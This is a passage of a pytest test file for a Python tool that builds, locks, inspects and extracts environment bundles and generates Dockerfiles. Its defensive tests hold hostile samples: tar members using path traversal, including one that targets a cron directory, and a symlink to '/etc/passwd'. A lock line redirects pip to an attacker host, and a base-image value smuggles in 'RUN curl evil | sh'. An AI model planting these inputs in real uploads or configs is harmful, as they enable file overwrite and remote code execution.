"""Bundles (``aenv_ray.bundle``) and ``aenv build``: deterministic, content-addressed, checked.

Projects are what ``aenv init`` writes (``write_project``); hostile uploads are made here with
:mod:`tarfile`; the command runs as users run it, the console script in a subprocess, with PATH
holding only a directory of our own (so no real docker, podman or buildah is found).
"""

from __future__ import annotations

import doctest
import gzip
import io
import json
import os
import re
import subprocess
import sys
import tarfile
from collections.abc import Callable
from importlib.metadata import version
from pathlib import Path

import pytest

import aenv_ray.bundle
from aenv_cli._image import dockerfile_text, find_image_builder, missing_sources
from aenv_cli._scaffold import project_files, write_project
from aenv_ray import __version__
from aenv_ray.bundle import (
    DIGEST_MARKER,
    Bundle,
    build_bundle,
    digest_of,
    extract_bundle,
    inspect_bundle,
    lock_requirements,
)
from aenv_ray.errors import ArtifactError, ArtifactTooLargeError, ConfigurationError
from tests._cli import aenv as run_cli
from tests._cli import imported_by as _imported_by

CONFIG = json.dumps({"name": "hostile", "version": "1.0.0"}).encode()
LOCK = b"# lock\norjson==3.10.0\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "demo"
    write_project(root, "demo")
    return root


def aenv(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
    """``aenv ARGS`` in this process (tests/_cli.py); ``env`` entries override the environment's."""
    return run_cli(*args, env=env)


def error_lines(result: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.strip()]


def lock_pins(lock: str) -> dict[str, str]:
    pins = [line.split("==") for line in lock.splitlines() if line and not line.startswith("#")]
    return dict(pins)


# -- building: determinism and contents ----------------------------------------------------------


def test_the_docstring_examples_run() -> None:
    result = doctest.testmod(aenv_ray.bundle)
    assert result.attempted > 0
    assert result.failed == 0


def test_the_same_content_gives_the_same_bytes(project: Path) -> None:
    first = build_bundle(project)
    again = build_bundle(project)
    assert first.data == again.data
    assert first.digest == again.digest
    assert first.digest.startswith("sha256:")
    assert len(first.digest) == 7 + 64
    assert first.digest == digest_of(first.data)
    assert digest_of(b"x") != digest_of(b"y")

    for path in project.rglob("*"):
        os.utime(path, (2_000_000_000, 2_000_000_000))  # `touch`: only times change
    assert build_bundle(project).data == first.data

    (project / "src" / "__pycache__").mkdir()
    (project / "src" / "__pycache__" / "demo.cpython-311.pyc").write_bytes(b"\x00cache")
    (project / "src" / "stale.pyc").write_bytes(b"\x00")
    (project / "src" / ".notes.swp").write_text("editor state")
    (project / ".git").mkdir()
    (project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (project / "tests" / "test_more.py").write_text("def test_x(): pass\n")
    (project / "Dockerfile").write_text("FROM scratch\n")
    (project / "dist").mkdir()
    (project / "dist" / "old.aenv.tgz").write_bytes(b"old")
    assert build_bundle(project).digest == first.digest

    source = project / "src" / "demo.py"
    source.write_text(source.read_text() + "\n# changed\n")
    assert build_bundle(project).digest != first.digest


def test_a_bundle_holds_config_src_requirements_readme_and_the_lock(project: Path) -> None:
    (project / "src" / "helpers").mkdir()
    (project / "src" / "helpers" / "__init__.py").write_text("")
    (project / "src" / "data.json").write_text("{}")
    tool = project / "src" / "run.sh"
    tool.write_text("#!/bin/sh\necho hi\n")
    tool.chmod(0o700)
    bundle = build_bundle(project)
    assert bundle.files == (
        "README.md",
        "aenv.lock",
        "config.json",
        "requirements.txt",
        "src/data.json",
        "src/demo.py",
        "src/helpers/__init__.py",
        "src/run.sh",
    )
    assert bundle.config.ref == "demo@1.0.0"
    assert bundle.size == len(bundle.data)

    with tarfile.open(fileobj=io.BytesIO(bundle.data), mode="r:gz") as tar:
        members = tar.getmembers()
        names = [m.name for m in members]
        assert names == sorted(names)
        assert set(names) == {*bundle.files, "src", "src/helpers"}
        for member in members:
            assert (member.mtime, member.uid, member.gid) == (0, 0, 0)
            assert (member.uname, member.gname) == ("", "")
            executable = member.isdir() or member.name == "src/run.sh"
            assert member.mode == (0o755 if executable else 0o644), member.name
        lock = tar.extractfile("aenv.lock")
        assert lock is not None
        assert lock.read().decode() == bundle.lock
        config = tar.extractfile("config.json")
        assert config is not None
        assert config.read() == (project / "config.json").read_bytes()

    # the gzip header: no name (FLG = 0), MTIME = 0
    assert bundle.data[:2] == b"\x1f\x8b"
    assert bundle.data[3] == 0
    assert bundle.data[4:8] == b"\x00\x00\x00\x00"


def test_readme_and_requirements_are_optional(project: Path) -> None:
    (project / "README.md").unlink()
    (project / "requirements.txt").unlink()
    bundle = build_bundle(project)
    assert bundle.files == ("aenv.lock", "config.json", "src/demo.py")
    assert lock_pins(bundle.lock) == {}


def test_the_build_output_directory_stays_out_wherever_it_is(project: Path) -> None:
    out = project / "src" / "build-out"
    out.mkdir()
    (out / "demo-1.0.0.aenv.tgz").write_bytes(b"previous build")
    assert "src/build-out/demo-1.0.0.aenv.tgz" in build_bundle(project).files
    assert not any("build-out" in name for name in build_bundle(project, exclude=[out]).files)


def test_a_symlink_in_src_is_an_error_naming_it(project: Path) -> None:
    (project / "src" / "link.py").symlink_to(project / "src" / "demo.py")
    with pytest.raises(ConfigurationError, match=r"src/link\.py is a symbolic link"):
        build_bundle(project)


def test_a_symlinked_directory_in_src_is_an_error_naming_it(project: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (project / "src" / "shared").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ConfigurationError, match=r"src/shared is a symbolic link"):
        build_bundle(project)


def test_an_invalid_or_missing_config_json_is_a_configuration_error(project: Path) -> None:
    (project / "config.json").write_text(json.dumps({"name": "bad name"}))
    with pytest.raises(ConfigurationError, match=r"config\.json is invalid: `name`"):
        build_bundle(project)
    (project / "config.json").unlink()
    with pytest.raises(ConfigurationError, match=r"no config\.json"):
        build_bundle(project)


def test_a_project_without_src_is_a_configuration_error(project: Path) -> None:
    (project / "src" / "demo.py").unlink()
    (project / "src").rmdir()
    with pytest.raises(ConfigurationError, match=r"src is not a directory"):
        build_bundle(project)


# -- the lock ------------------------------------------------------------------------------------


def test_the_lock_pins_requirements_and_their_dependencies_as_installed(project: Path) -> None:
    (project / "requirements.txt").write_text(
        "# what the env needs\n\norjson  # fast JSON\ntyper>=0.1\n"
    )
    lock = lock_requirements(project)
    header = [line for line in lock.splitlines() if line.startswith("#")]
    assert any(f"Python {sys.version_info.major}.{sys.version_info.minor}" in h for h in header)
    assert any("installed" in h for h in header)
    pins = lock_pins(lock)
    assert pins["orjson"] == version("orjson")
    assert pins["typer"] == version("typer")
    # typer's own dependencies, and theirs (rich -> markdown-it-py, pydantic -> pydantic-core)
    for name in ("rich", "shellingham", "pydantic", "markdown-it-py", "pydantic-core"):
        assert pins[name] == version(name), name
    assert "colorama" not in pins  # typer wants it on Windows only
    assert list(pins) == sorted(pins)
    assert lock_requirements(project) == lock
    assert build_bundle(project).lock == lock


def test_extras_bring_their_dependencies(project: Path) -> None:
    (project / "requirements.txt").write_text("uvicorn\n")
    plain = lock_pins(lock_requirements(project))
    assert plain["uvicorn"] == version("uvicorn")
    assert plain["click"] == version("click")
    assert "httptools" not in plain
    (project / "requirements.txt").write_text("uvicorn[standard]\n")
    standard = lock_pins(lock_requirements(project))
    assert standard["httptools"] == version("httptools")
    assert standard["websockets"] == version("websockets")


def test_markers_on_requirements_are_evaluated(project: Path) -> None:
    (project / "requirements.txt").write_text(
        'orjson; python_version >= "3"\nnot-a-real-package-aenv; python_version < "3"\n'
    )
    assert set(lock_pins(lock_requirements(project))) == {"orjson"}


def test_a_requirement_that_is_not_installed_says_what_to_do(project: Path) -> None:
    (project / "requirements.txt").write_text("orjson\nnot-a-real-package-aenv>=1\n")
    with pytest.raises(ConfigurationError) as caught:
        lock_requirements(project)
    message = str(caught.value)
    assert "`not-a-real-package-aenv>=1`" in message
    assert "requirements.txt line 2" in message
    assert "not installed" in message
    assert "pip install" in message
    assert "build again" in message


def test_an_unsatisfied_specifier_says_what_is_installed(project: Path) -> None:
    (project / "requirements.txt").write_text("orjson>=999\n")
    with pytest.raises(ConfigurationError) as caught:
        build_bundle(project)
    message = str(caught.value)
    assert "`orjson>=999`" in message
    assert f"{version('orjson')} is installed" in message
    assert "pip install" in message
    assert "build again" in message


def test_pip_options_in_requirements_are_refused(project: Path) -> None:
    (project / "requirements.txt").write_text("-r other.txt\n")
    with pytest.raises(ConfigurationError, match=r"line 1: `-r other\.txt`: pip options"):
        lock_requirements(project)


# -- inspecting uploads --------------------------------------------------------------------------


def targz(*members: tuple[tarfile.TarInfo, bytes | None]) -> bytes:
    """A .tar.gz of exactly these members, in this order."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb") as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for info, content in members:
            tar.addfile(info, io.BytesIO(content) if content is not None else None)
    return buffer.getvalue()


def file(name: str, content: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    return info, content


def special(name: str, kind: bytes, target: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


def valid_members() -> list[tuple[tarfile.TarInfo, bytes | None]]:
    return [file("config.json", CONFIG), file("aenv.lock", LOCK), file("src/env.py", b"")]


def test_inspect_accepts_a_real_bundle(project: Path) -> None:
    bundle = build_bundle(project)
    info = inspect_bundle(bundle.data, max_size=len(bundle.data), expected_digest=bundle.digest)
    assert info.digest == bundle.digest
    assert info.size == len(bundle.data)
    assert info.config == bundle.config
    assert info.files == bundle.files
    bare = bundle.digest.removeprefix("sha256:")
    assert inspect_bundle(bundle.data, max_size=1 << 20, expected_digest=bare).digest == info.digest
    assert inspect_bundle(targz(*valid_members()), max_size=1 << 20).config.name == "hostile"


HOSTILE: dict[str, tuple[list[tuple[tarfile.TarInfo, bytes | None]], str]] = {
    "absolute path": ([file("/etc/cron.d/evil")], "/etc/cron.d/evil"),
    "parent": ([file("../evil.py")], "../evil.py"),
    "parent inside": ([file("src/../../evil.py")], "src/../../evil.py"),
    "symlink": ([special("src/link.py", tarfile.SYMTYPE, "/etc/passwd")], "src/link.py"),
    "hard link": ([special("src/hard.py", tarfile.LNKTYPE, "config.json")], "src/hard.py"),
    "fifo": ([special("src/pipe", tarfile.FIFOTYPE)], "src/pipe"),
    "char device": ([special("src/null", tarfile.CHRTYPE)], "src/null"),
    "block device": ([special("src/disk", tarfile.BLKTYPE)], "src/disk"),
    "duplicate": ([file("src/env.py", b"other")], "src/env.py"),
    "below a file": ([file("src/env.py/x.py")], "src/env.py/x.py"),
    "reserved": ([file(DIGEST_MARKER, b"sha256:00")], DIGEST_MARKER),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_inspect_refuses_hostile_members_naming_them(case: str) -> None:
    extra, named = HOSTILE[case]
    data = targz(*valid_members(), *extra)
    with pytest.raises(ArtifactError) as caught:
        inspect_bundle(data, max_size=1 << 20)
    assert type(caught.value) is ArtifactError
    assert named in str(caught.value)


@pytest.mark.parametrize(
    ("case", "data"),
    [
        ("empty", b""),
        ("not gzip", b"PK\x03\x04 a zip file, say"),
        ("gzip of text", gzip.compress(b"hello world\n" * 100)),
        ("truncated", targz(*valid_members(), file("src/big.py", os.urandom(4096)))[:-600]),
    ],
    ids=["empty", "not gzip", "gzip of text", "truncated"],  # the same in every collection
)
def test_inspect_refuses_what_is_not_a_complete_tar_gz(case: str, data: bytes) -> None:
    with pytest.raises(ArtifactError, match="not a bundle made by `aenv build`") as caught:
        inspect_bundle(data, max_size=1 << 20)
    assert type(caught.value) is ArtifactError, case


@pytest.mark.parametrize("missing", ["config.json", "aenv.lock"])
def test_inspect_refuses_a_bundle_without_config_or_lock(missing: str) -> None:
    members = [m for m in valid_members() if m[0].name != missing]
    with pytest.raises(ArtifactError, match=f"has no {missing}"):
        inspect_bundle(targz(*members), max_size=1 << 20)


def test_inspect_carries_the_config_validation_message() -> None:
    bad = json.dumps({"name": "bad name", "deployConfig": {"cpu": "lots"}}).encode()
    with pytest.raises(ArtifactError, match=r"config\.json is invalid: `name`: .*letter or digit"):
        inspect_bundle(targz(file("config.json", bad), file("aenv.lock", LOCK)), max_size=1 << 20)
    with pytest.raises(ArtifactError, match=r"config\.json is not valid JSON"):
        inspect_bundle(
            targz(file("config.json", b"{nope"), file("aenv.lock", LOCK)), max_size=1 << 20
        )


def test_inspect_refuses_a_lock_that_is_not_pins() -> None:
    lock = b"orjson==3.10.0\n--index-url http://evil.example/simple\n"
    with pytest.raises(ArtifactError, match=r"aenv\.lock line 2"):
        inspect_bundle(
            targz(file("config.json", CONFIG), file("aenv.lock", lock)), max_size=1 << 20
        )


def test_inspect_refuses_too_many_members() -> None:
    members = [*valid_members(), *(file(f"src/m{i}.py") for i in range(10))]
    with pytest.raises(ArtifactError, match="more than 8 members"):
        inspect_bundle(targz(*members), max_size=1 << 20, max_members=8)
    assert inspect_bundle(targz(*members), max_size=1 << 20, max_members=13).files


def test_inspect_refuses_a_corrupted_upload(project: Path) -> None:
    bundle = build_bundle(project)
    other = "sha256:" + "0" * 64
    with pytest.raises(ArtifactError) as caught:
        inspect_bundle(bundle.data, max_size=1 << 20, expected_digest=other)
    assert str(caught.value).startswith(
        f"the upload is corrupted: expected {other}, got {bundle.digest}"
    )


def test_inspect_refuses_an_oversized_upload(project: Path) -> None:
    bundle = build_bundle(project)
    limit = len(bundle.data) - 1
    with pytest.raises(ArtifactTooLargeError) as caught:
        inspect_bundle(bundle.data, max_size=limit)
    message = str(caught.value)
    assert f"{len(bundle.data)} bytes" in message
    assert f"{limit} bytes" in message
    assert "--max-bundle" in message


def test_inspect_refuses_a_decompression_bomb() -> None:
    bomb = targz(*valid_members(), file("src/zeros.bin", bytes(20 << 20)))
    assert len(bomb) < 100 << 10  # 20 MiB of zeros compress to a few KiB
    with pytest.raises(ArtifactTooLargeError, match="more than 1000000 bytes"):
        inspect_bundle(bomb, max_size=100_000)
    with pytest.raises(ArtifactTooLargeError):
        inspect_bundle(bomb, max_size=1 << 20, max_uncompressed=1 << 20)


def test_inspect_refuses_a_header_claiming_a_huge_file() -> None:
    # a header announcing 64 GiB, followed by nothing: found from the header, nothing is read
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for member, content in valid_members():
            tar.addfile(member, io.BytesIO(content or b""))
        head = buffer.getvalue()  # the members, before the end-of-archive blocks
    info = tarfile.TarInfo("src/huge.bin")
    info.size = 64 << 30
    raw = head + info.tobuf(tarfile.PAX_FORMAT)
    with pytest.raises(ArtifactTooLargeError, match="add up to more than"):
        inspect_bundle(gzip.compress(raw), max_size=1 << 20)


# -- extracting ----------------------------------------------------------------------------------


def test_extract_round_trips_and_marks_the_digest(project: Path, tmp_path: Path) -> None:
    bundle = build_bundle(project)
    dest = tmp_path / "cache" / "demo"
    assert extract_bundle(bundle.data, dest) == dest
    extracted = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file())
    assert extracted == sorted([*bundle.files, DIGEST_MARKER])
    for name in bundle.files:
        if name != "aenv.lock":
            assert (dest / name).read_bytes() == (project / name).read_bytes(), name
    assert (dest / "aenv.lock").read_text() == bundle.lock
    assert (dest / DIGEST_MARKER).read_text().strip() == bundle.digest
    assert [p.name for p in dest.parent.iterdir()] == ["demo"]  # no temporary directory left


def test_extract_is_idempotent_and_refuses_a_different_bundle(
    project: Path, tmp_path: Path
) -> None:
    bundle = build_bundle(project)
    dest = tmp_path / "extracted"
    extract_bundle(bundle.data, dest)
    (dest / "sentinel").write_text("left alone")
    assert extract_bundle(bundle.data, dest) == dest
    assert (dest / "sentinel").read_text() == "left alone"  # the cache hit wrote nothing

    (project / "src" / "demo.py").write_text("# another version\n")
    other = build_bundle(project)
    with pytest.raises(ConfigurationError, match=f"does not hold bundle {other.digest}"):
        extract_bundle(other.data, dest)
    assert (dest / DIGEST_MARKER).read_text().strip() == bundle.digest


def test_extract_fills_an_empty_directory_and_leaves_nothing_on_a_bad_bundle(
    project: Path, tmp_path: Path
) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    bundle = build_bundle(project)
    assert (extract_bundle(bundle.data, empty) / "config.json").is_file()

    hostile = targz(*valid_members(), file("../escape.py"))
    dest = tmp_path / "out" / "hostile"
    with pytest.raises(ArtifactError, match="escape"):
        extract_bundle(hostile, dest)
    assert not dest.exists()
    assert not (tmp_path / "escape.py").exists()
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


# -- the Dockerfile and the image builder --------------------------------------------------------


def run_instructions(dockerfile: str) -> list[str]:
    """The RUN instructions of a Dockerfile, continuations joined."""
    joined = re.sub(r"\\\n\s*", " ", dockerfile)
    return [line for line in joined.splitlines() if line.startswith("RUN ")]


@pytest.mark.parametrize("origin", ["generated", "aenv init"])
def test_the_dockerfiles_install_aenv_ray_from_the_wheel_never_by_name(
    origin: str, project: Path
) -> None:
    bundle = build_bundle(project)
    text = dockerfile_text(bundle) if origin == "generated" else project_files("demo")["Dockerfile"]
    lines = text.splitlines()
    assert "FROM python:3.11-slim" in lines
    assert "WORKDIR /env" in lines
    [install] = run_instructions(text)
    assert install.startswith("RUN pip install --no-cache-dir /tmp/aenv-wheels/*.whl ")
    assert "-r /env/aenv.lock" in install
    assert not re.search(r"aenv[-_]ray\s*[=<>~!]|aenv[-_]ray\"|aenv[-_]ray$", install)
    assert 'COPY ["wheels/", "/tmp/aenv-wheels/"]' in lines
    assert 'COPY ["env/", "/env/"]' in lines
    assert "EXPOSE 8080 8081" in lines
    assert lines[-1] == 'CMD ["python", "-m", "sandbox_runtime", "/env", "--host", "0.0.0.0"]'
    if origin == "generated":
        assert any(bundle.digest in line for line in lines if line.startswith("#"))
    else:
        assert "aenv build" in lines[0]  # the comment says how it is built


def with_build_config(project: Path, build_config: dict[str, object]) -> Bundle:
    config = json.loads((project / "config.json").read_text())
    config["buildConfig"] = build_config
    (project / "config.json").write_text(json.dumps(config))
    return build_bundle(project)


def test_the_base_image_comes_from_build_config(project: Path) -> None:
    bundle = with_build_config(project, {"baseImage": "ghcr.io/acme/py:3.12"})
    assert "FROM ghcr.io/acme/py:3.12" in dockerfile_text(bundle).splitlines()
    bundle = with_build_config(project, {"baseImage": "python:3.12\nRUN curl evil | sh"})
    with pytest.raises(ConfigurationError, match="baseImage"):
        dockerfile_text(bundle)


def test_missing_sources_reads_copy_and_add_as_a_builder_does(tmp_path: Path) -> None:
    (tmp_path / "env" / "src").mkdir(parents=True)
    (tmp_path / "wheels").mkdir()
    (tmp_path / "wheels" / "a-1-py3-none-any.whl").write_bytes(b"")
    dockerfile = "\n".join(
        [
            "# COPY commented.txt /x",
            "FROM python:3.11-slim AS base",
            'COPY ["env/", "/env/"]',
            "copy --chown=1:1 env/src wheels/*.whl /x/",
            "ADD --chmod=644 \\",
            "    missing-one.txt \\",
            "    /x/",
            "COPY --from=base /env /y",
            "ADD https://example.com/x.tgz /z",
            "COPY ${ARG_FILE} /w",
            'COPY ["requirements.txt", "wheels/*.tgz", "/app/"]',
            "RUN cp missing-too.txt /",
        ]
    )
    assert missing_sources(dockerfile, tmp_path) == [
        (5, "missing-one.txt"),
        (11, "requirements.txt"),
        (11, "wheels/*.tgz"),
    ]


def executable(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return path


def test_find_image_builder_takes_the_first_of_docker_podman_buildah_that_works(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    assert find_image_builder() == (None, [])
    buildah = executable(tmp_path / "bin" / "buildah", "#!/bin/sh\n")
    assert find_image_builder() == (str(buildah), [])
    podman = executable(tmp_path / "bin" / "podman", "#!/bin/sh\n")  # `podman info` answers
    assert find_image_builder() == (str(podman), [])
    docker = executable(tmp_path / "bin" / "docker", "#!/bin/sh\n")
    assert find_image_builder() == (str(docker), [])
    # a docker and a podman without their daemon: buildah (daemonless) builds, as docs say
    down = "#!/bin/sh\necho 'Cannot connect to the {} daemon' >&2\nexit 1\n"
    executable(docker, down.format("Docker"))
    executable(podman, down.format("Podman"))
    assert find_image_builder() == (
        str(buildah),
        [
            "docker: Cannot connect to the Docker daemon",
            "podman: Cannot connect to the Podman daemon",
        ],
    )
    buildah.unlink()
    assert find_image_builder()[0] is None


# -- aenv build ----------------------------------------------------------------------------------

# A builder that builds nothing but fails as a real one would on an incomplete context: every
# COPY/ADD source must be in the context (read independently of aenv's own check), and the
# wheel the RUN installs must be a wheel of aenv-ray with its runtime inside.
FAKE_BUILDER = """\
#!{python}
import glob, json, os, re, sys, zipfile
if sys.argv[1:] == ["info"]:  # aenv build asks whether the builder works here
    print({info!r}, file=sys.stderr)
    sys.exit({info_code})
context, dockerfile = sys.argv[-1], sys.argv[sys.argv.index("-f") + 1]
text = re.sub(r"\\\\\\n\\s*", " ", open(dockerfile).read())
record = {{"argv": sys.argv[1:], "context": sorted(os.listdir(context)), "installed": []}}
for line in text.splitlines():
    word, _, rest = line.strip().partition(" ")
    if word.upper() in ("COPY", "ADD") and "--from=" not in rest:
        args = json.loads(rest) if rest.startswith("[") else rest.split()
        for source in args[:-1]:
            if not glob.glob(os.path.join(context, source)):
                print(f"ERROR: failed to compute cache key: {{source}}: not found")
                sys.exit(1)
    if word.upper() == "RUN" and "/tmp/aenv-wheels/*.whl" in rest:
        wheels = glob.glob(os.path.join(context, "wheels", "*.whl"))
        if len(wheels) != 1:
            print(f"ERROR: pip install wants one wheel, the context has {{wheels}}")
            sys.exit(1)
        names = zipfile.ZipFile(wheels[0]).namelist()
        if "sandbox_runtime/__main__.py" not in names:
            print("ERROR: No module named sandbox_runtime")
            sys.exit(1)
        record["installed"].append(os.path.basename(wheels[0]))
with open({record!r}, "w") as out:
    json.dump(record, out)
print("step 1/4: pretending to build")
print("{last}")
sys.exit({code})
"""


def fake_builder(
    bin_dir: Path,
    record: Path,
    *,
    code: int = 0,
    last: str = "done",
    info: str = "",
    info_code: int = 0,
) -> Path:
    text = FAKE_BUILDER.format(
        python=sys.executable,
        record=str(record),
        code=code,
        last=last,
        info=info,
        info_code=info_code,
    )
    return executable(bin_dir / "docker", text)


def test_build_exits_1_when_the_builder_cannot_build_here(project: Path, tmp_path: Path) -> None:
    # docker on PATH without a daemon (this machine): the bundle and Dockerfile, and one line
    record = tmp_path / "argv.json"
    daemonless = "Cannot connect to the Docker daemon at unix:///var/run/docker.sock"
    fake_builder(tmp_path / "bin", record, info=daemonless, info_code=1)
    # the fake docker alone on PATH: a buildah or podman of this machine (the real-node kit
    # installs buildah) would build, or fail to pull, instead
    result = aenv("build", str(project), PATH=str(tmp_path / "bin"))
    assert result.returncode == 1, result.stderr
    [line] = error_lines(result)
    assert line.startswith(
        "aenv: error: no image built: it takes docker, podman or buildah, and none of them can "
        f"build here (docker: {daemonless}); install buildah (it needs no daemon)"
    )
    assert "or pass --no-image" in line
    assert "`docker build -t demo:1.0.0 " in line  # how to build it elsewhere
    assert (project / "dist" / "image" / "Dockerfile").is_file()
    assert not record.exists()  # no build was attempted


def test_build_writes_the_outputs_and_says_when_no_builder_exists(
    project: Path, tmp_path: Path
) -> None:
    empty_path = str(tmp_path / "nothing-here")
    result = aenv("build", str(project), PATH=empty_path, AENV_K8S_IMAGE_PREFIX="")
    assert result.returncode == 1, result.stderr  # asked for an image, made none
    dist = project / "dist"
    assert sorted(p.name for p in dist.iterdir()) == [
        "aenv.lock",
        "demo-1.0.0.aenv.tgz",
        "demo-1.0.0.json",
        "image",
    ]
    data = (dist / "demo-1.0.0.aenv.tgz").read_bytes()
    bundle = build_bundle(project, exclude=[dist])
    assert data == bundle.data
    manifest = json.loads((dist / "demo-1.0.0.json").read_text())
    assert manifest == {
        "name": "demo",
        "version": "1.0.0",
        "digest": bundle.digest,
        "size": len(data),
        "files": list(bundle.files),
    }
    assert (dist / "aenv.lock").read_text() == bundle.lock
    # the image's context: the project's Dockerfile, the bundle's files, a wheel of aenv-ray
    context = dist / "image"
    assert (context / "Dockerfile").read_text() == (project / "Dockerfile").read_text()
    assert sorted(p.name for p in (context / "wheels").iterdir()) == [
        f"aenv_ray-{__version__}-py3-none-any.whl"
    ]
    env = context / "env"
    files = sorted(p.relative_to(env).as_posix() for p in env.rglob("*") if p.is_file())
    assert files == sorted([DIGEST_MARKER, *bundle.files])
    assert missing_sources((context / "Dockerfile").read_text(), context) == []
    out = result.stdout
    for shown in ("demo@1.0.0", bundle.digest, f"{len(data)} bytes", "demo-1.0.0.aenv.tgz"):
        assert shown in out
    assert (
        f"  Dockerfile  {(context / 'Dockerfile').as_posix()} (the project's ./Dockerfile)" in out
    )
    assert error_lines(result) == [
        "aenv: error: no image built: it takes docker, podman or buildah, and none on PATH; "
        "install buildah (it needs no daemon), or podman or docker with its daemon running, or "
        "pass --no-image for the bundle and the image's context alone (written: "
        f"{context.as_posix()}; `docker build -t demo:1.0.0 {context.as_posix()}` builds it "
        "where docker runs)"
    ]
    # the image the Kubernetes engine expects for this version: no registry named yet
    assert "  image       demo:1.0.0 has no registry: the Kubernetes engine needs " in out
    # building again (the outputs now inside the project) gives the same bundle and wheel
    wheel = next((context / "wheels").iterdir()).read_bytes()
    assert aenv("build", str(project), "--no-image", PATH=empty_path).returncode == 0
    assert (dist / "demo-1.0.0.aenv.tgz").read_bytes() == data
    assert next((context / "wheels").iterdir()).read_bytes() == wheel


def test_build_and_push_import_neither_the_hub_nor_the_runtime(
    project: Path, tmp_path: Path
) -> None:
    # the bundle format is the SDK's and the load check runs in a sandbox: `aenv build` and
    # `aenv push` need no hub package and no runtime in their own process
    built, imported = _imported_by("build", str(project), "--no-image")
    assert built.returncode == 0, built.stderr
    assert {"aenv_ray.bundle", "aenv_cli._image", "aenv_cli._loadcheck"} <= imported
    server = {m for m in imported if m.split(".")[0] in ("envhub", "sandbox_runtime")}
    assert not server, f"aenv build imported {sorted(server)}"
    no_hub = {"AENV_SYSTEM_URL": "", "AENV_CONFIG_FILE": str(tmp_path / "none.json")}
    pushed, imported = _imported_by("push", str(project), **no_hub)
    assert pushed.returncode == 2, pushed.stderr  # loaded, then: no hub configured
    assert "no hub configured" in pushed.stderr
    assert {"aenv_ray.bundle", "aenv_cli._loadcheck", "aenv_ray.hub"} <= imported
    server = {m for m in imported if m.split(".")[0] in ("envhub", "sandbox_runtime")}
    assert not server, f"aenv push imported {sorted(server)}"


def test_build_json_prints_the_manifest_alone(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "elsewhere"
    result = aenv("build", str(project), "--out", str(out), "--json", PATH=str(tmp_path / "none"))
    assert result.returncode == 1, result.stderr  # no builder: the manifest, then the error
    manifest = json.loads(result.stdout)
    assert manifest == json.loads((out / "demo-1.0.0.json").read_text())
    assert manifest["digest"] == build_bundle(project).digest
    assert "aenv: error: no image built" in result.stderr
    assert not (project / "dist").exists()


def test_a_load_check_that_passed_is_remembered_for_its_digest_and_checker(
    project: Path, tmp_path: Path
) -> None:
    cache = {"XDG_CACHE_HOME": str(tmp_path / "cache")}  # the user's cache, this test's own
    records = tmp_path / "cache" / "aenv-ray" / "load-checks"
    first = aenv("build", str(project), "--no-image", **cache)
    assert first.returncode == 0, first.stderr
    assert "1 tool, 0 functions, a reward (loaded in a sandbox)" in first.stdout
    [path] = records.iterdir()
    record = json.loads(path.read_text())
    assert record["digest"] == build_bundle(project, exclude=[project / "dist"]).digest
    assert [t["name"] for t in record["manifest"]["tools"]] == ["add_note"]
    # the same bundle under the same checker is not loaded again: what the record says is what
    # is told (a record changed here shows that it, not a new load, answered)
    record["manifest"]["tools"] *= 3
    path.write_text(json.dumps(record))
    again = aenv("build", str(project), "--no-image", **cache)
    assert again.returncode == 0, again.stderr
    assert "3 tools, 0 functions, a reward (loaded in a sandbox)" in again.stdout
    # a record of another checker (an upgraded aenv-ray or package), or one that cannot be
    # read, is no answer: the bundle is loaded again, and the record written anew
    for stale in ({**record, "checker": "0" * 64}, "{not json"):
        path.write_text(stale if isinstance(stale, str) else json.dumps(stale))
        checked = aenv("build", str(project), "--no-image", **cache)
        assert checked.returncode == 0, checked.stderr
        assert "1 tool, 0 functions, a reward (loaded in a sandbox)" in checked.stdout
        assert len(json.loads(path.read_text())["manifest"]["tools"]) == 1
    # a changed project is another bundle: checked, and a failed check is never remembered
    source = next((project / "src").glob("*.py"))
    source.write_text(source.read_text() + "\ndef broken(:\n")
    failed = aenv("build", str(project), "--no-image", **cache)
    assert failed.returncode == 2, failed.stderr
    assert "SyntaxError" in failed.stderr
    assert list(records.iterdir()) == [path]


def test_build_runs_the_builder_on_a_context_of_the_bundle(project: Path, tmp_path: Path) -> None:
    record = tmp_path / "argv.json"
    bin_dir = tmp_path / "bin"
    fake_builder(bin_dir, record)
    result = aenv("build", str(project), PATH=str(bin_dir))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "built image demo:1.0.0" in result.stdout
    seen = json.loads(record.read_text())
    argv = seen["argv"]
    context = project / "dist" / "image"
    assert argv == ["build", "-t", "demo:1.0.0", "-f", str(context / "Dockerfile"), str(context)]
    assert seen["context"] == [".aenv-context", "Dockerfile", "env", "wheels"]
    assert seen["installed"] == [f"aenv_ray-{__version__}-py3-none-any.whl"]

    record.unlink()
    tagged = aenv("build", str(project), "--tag", "reg.example/me/demo:dev", PATH=str(bin_dir))
    assert tagged.returncode == 0, tagged.stderr
    assert json.loads(record.read_text())["argv"][:3] == ["build", "-t", "reg.example/me/demo:dev"]

    record.unlink()
    assert aenv("build", str(project), "--no-image", PATH=str(bin_dir)).returncode == 0
    assert not record.exists()


OLD_DOCKERFILE = """\
FROM python:3.11-slim
WORKDIR /app
COPY requirements.txt /app/requirements.txt
RUN pip install --no-cache-dir "aenv-ray>=0.1.0" -r /app/requirements.txt
